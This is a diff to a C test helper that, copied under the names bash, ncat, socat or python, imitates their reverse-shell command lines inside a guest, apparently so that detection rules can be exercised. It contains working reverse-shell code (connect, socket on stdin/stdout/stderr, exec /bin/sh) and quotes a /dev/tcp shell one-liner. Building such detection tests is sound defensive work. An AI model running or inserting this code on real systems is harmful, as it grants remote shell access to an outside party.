@@ -11,6 +11,18 @@
  *                                     received into OUT until the peer closes (a fake C2).
  *   netc revshell ADDR PORT PROG ARG0 [ARGS...]   connect, put the socket on fds 0, 1 and 2,
  *                                     and exec PROG (what `sh -i >& /dev/tcp/ADDR/PORT 0>&1` does).
+ *
+ * Installed (copied) under another name, it plays that tool's part of a reverse shell or a
+ * compromised build step, with the real tool's command line (the guest has no bash, ncat,
+ * socat or python, and rules look at process names and arguments):
+ *   bash -c 'CMD'        CMD holding /dev/tcp/ADDR/PORT: connect, socket on 0/1/2, exec
+ *                        `/bin/sh -i` in the same process (bash's redirection, then its exec)
+ *   ncat -e PROG ADDR PORT | ncat --sh-exec CMD ADDR PORT
+ *                        connect, then a child with the socket on 0/1/2 runs PROG (or
+ *                        `/bin/sh -c CMD`); waits for it (ncat's -e forks, unlike nc's)
+ *   socat TCP:ADDR:PORT EXEC:PROG | SYSTEM:CMD
+ *                        the same as ncat: connect, child on the socket
+ *   python3 -c 'CODE'    CODE holding ("ADDR", PORT): connect there, send a line, close
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -19,7 +31,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <strings.h>
 #include <sys/socket.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 static socklen_t addr_parse(const char *host, const char *port, struct sockaddr_storage *ss)
@@ -100,9 +114,156 @@ static void copy_from(int fd, int out, int one_line)
     }
 }
 
+/* Connect, then run PROG ARGV (argv[0] given) in a child whose fds 0/1/2 are the socket. */
+static int fork_on_socket(const char *host, const char *port, char *const *cmd)
+{
+    int fd = sock_connect(host, port, SOCK_STREAM);
+    pid_t pid = fork();
+    if (pid < 0) {
+        perror("fork");
+        return 1;
+    }
+    if (pid == 0) {
+        for (int i = 0; i < 3; i++)
+            dup2(fd, i);
+        if (fd > 2)
+            close(fd);
+        execv(cmd[0], cmd);
+        perror(cmd[0]);
+        _exit(127);
+    }
+    close(fd);
+    int st;
+    if (waitpid(pid, &st, 0) < 0)
+        return 1;
+    return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
+}
+
+/* "/dev/tcp/ADDR/PORT" anywhere in s: ADDR and PORT into host and port. */
+static int dev_tcp(const char *s, char *host, size_t hlen, char *port, size_t plen)
+{
+    const char *p = strstr(s, "/dev/tcp/");
+    if (!p)
+        return -1;
+    p += 9;
+    size_t n = strcspn(p, "/");
+    if (p[n] != '/' || n >= hlen)
+        return -1;
+    memcpy(host, p, n);
+    host[n] = 0;
+    p += n + 1;
+    n = strspn(p, "0123456789");
+    if (n == 0 || n >= plen)
+        return -1;
+    memcpy(port, p, n);
+    port[n] = 0;
+    return 0;
+}
+
+/* ("ADDR", PORT) or ('ADDR', PORT) in python code. */
+static int py_addr(const char *s, char *host, size_t hlen, char *port, size_t plen)
+{
+    for (const char *p = strchr(s, '('); p; p = strchr(p + 1, '(')) {
+        const char *q = p + 1;
+        if (*q != '"' && *q != '\'')
+            continue;
+        size_t n = strspn(q + 1, "0123456789.:abcdef");
+        if (n == 0 || n >= hlen || q[1 + n] != *q)
+            continue;
+        memcpy(host, q + 1, n);
+        host[n] = 0;
+        const char *r = q + 2 + n;
+        r += strspn(r, ", ");
+        size_t m = strspn(r, "0123456789");
+        if (m == 0 || m >= plen)
+            continue;
+        memcpy(port, r, m);
+        port[m] = 0;
+        return 0;
+    }
+    return -1;
+}
+
+/* The tool personalities (see the top comment). Returns -1 when argv[0] is none of them. */
+static int personality(int argc, char **argv)
+{
+    const char *me = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
+    char host[64], port[16];
+    if (!strcmp(me, "bash")) {
+        if (argc < 3 || strcmp(argv[1], "-c") || dev_tcp(argv[2], host, sizeof host, port,
+                                                           sizeof port) < 0) {
+            fprintf(stderr, "bash (netc): only -c '... /dev/tcp/ADDR/PORT ...'\n");
+            return 2;
+        }
+        int fd = sock_connect(host, port, SOCK_STREAM);
+        for (int i = 0; i < 3; i++)
+            dup2(fd, i);
+        if (fd > 2)
+            close(fd);
+        alarm(0);
+        char *sh[] = {"sh", "-i", NULL};
+        execv("/bin/sh", sh);
+        perror("/bin/sh");
+        return 127;
+    }
+    if (!strcmp(me, "ncat") && argc == 5) {
+        if (!strcmp(argv[1], "-e") || !strcmp(argv[1], "--exec")) {
+            char *cmd[] = {argv[2], NULL};
+            return fork_on_socket(argv[3], argv[4], cmd);
+        }
+        if (!strcmp(argv[1], "--sh-exec")) {
+            char *cmd[] = {"/bin/sh", "-c", argv[2], NULL};
+            return fork_on_socket(argv[3], argv[4], cmd);
+        }
+    }
+    if (!strcmp(me, "ncat")) {
+        fprintf(stderr, "ncat (netc): only -e PROG|--sh-exec CMD ADDR PORT\n");
+        return 2;
+    }
+    if (!strcmp(me, "socat")) {
+        const char *t = argc == 3 ? argv[1] : "";
+        const char *c = strchr(t, ':') ? strchr(t, ':') + 1 : "";
+        const char *pc = strrchr(c, ':');
+        if (strncasecmp(t, "TCP:", 4) || !pc || (size_t)(pc - c) >= sizeof host) {
+            fprintf(stderr, "socat (netc): only TCP:ADDR:PORT EXEC:PROG|SYSTEM:CMD\n");
+            return 2;
+        }
+        memcpy(host, c, (size_t)(pc - c));
+        host[pc - c] = 0;
+        snprintf(port, sizeof port, "%s", pc + 1);
+        if (!strncasecmp(argv[2], "EXEC:", 5)) {
+            char *cmd[] = {argv[2] + 5, NULL};
+            return fork_on_socket(host, port, cmd);
+        }
+        if (!strncasecmp(argv[2], "SYSTEM:", 7)) {
+            char *cmd[] = {"/bin/sh", "-c", argv[2] + 7, NULL};
+            return fork_on_socket(host, port, cmd);
+        }
+        fprintf(stderr, "socat (netc): only EXEC: or SYSTEM: as the second address\n");
+        return 2;
+    }
+    if (!strncmp(me, "python", 6)) {
+        if (argc < 3 || strcmp(argv[1], "-c") ||
+            py_addr(argv[2], host, sizeof host, port, sizeof port) < 0) {
+            fprintf(stderr, "python (netc): only -c 'CODE with (\"ADDR\", PORT)'\n");
+            return 2;
+        }
+        int fd = sock_connect(host, port, SOCK_STREAM);
+        send_all(fd, "python\n", 7);
+        shutdown(fd, SHUT_WR);
+        copy_from(fd, 1, 0);
+        close(fd);
+        return 0;
+    }
+    return -1;
+}
+
 int main(int argc, char **argv)
 {
     alarm(30); /* no helper outlives a stuck peer */
+    int r = personality(argc, argv);
+    if (r >= 0)
+        return r;
     if (argc >= 4 && !strcmp(argv[1], "connect")) {
         int fd = sock_connect(argv[2], argv[3], SOCK_STREAM);
         printf("connected %s:%s\n", argv[2], argv[3]);
